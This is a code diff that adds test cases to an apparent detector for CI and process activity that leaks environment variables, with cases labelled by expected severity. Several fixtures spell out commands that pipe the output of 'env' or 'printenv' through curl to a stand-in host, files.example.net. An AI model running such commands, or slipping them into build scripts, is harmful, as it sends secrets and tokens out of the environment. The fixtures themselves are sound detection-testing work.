@@ -17,6 +17,19 @@ function started(commandLine: string | undefined, executable = '/usr/bin/bash') 
   );
 }
 
+function step(command: string) {
+  return activityAt(
+    AT,
+    'step',
+    { name: 'test', ordinal: 1, command, first_line: 1, last_line: 9 },
+    {
+      source: 'gitlab.job-log',
+      vcs: { repository: { name: 'example/app' } },
+      cicd: { pipeline: { name: 'ci', task: { name: 'test' } } },
+    },
+  );
+}
+
 export const cases: readonly DetectorCase[] = [
   {
     name: 'A shell reads its process’s environment from the kernel',
@@ -26,11 +39,32 @@ export const cases: readonly DetectorCase[] = [
     expected: 'medium',
   },
   {
+    name: 'The environment goes to a tool that sends it away',
+    kind: 'hit',
+    history: [],
+    activity: started('sh -c "env | curl -s -d @- https://files.example.net"'),
+    expected: 'high',
+  },
+  {
     name: 'A step prints its environment',
     kind: 'hit',
     history: [],
     activity: started('printenv', '/usr/bin/printenv'),
     expected: 'informational',
+  },
+  {
+    name: 'A script, as the log shows it, sends its environment away',
+    kind: 'hit',
+    history: [],
+    activity: step('make test\nprintenv | sort | curl -sS --data-binary @- https://files.example.net'),
+    expected: 'high',
+  },
+  {
+    name: 'A script prints its environment, and another line of it sends a report',
+    kind: 'near-miss',
+    history: [],
+    activity: step('env | sort\ncat report.json | curl -s -d @- https://files.example.net'),
+    expected: null,
   },
   {
     name: 'A program is started with a variable of its own',
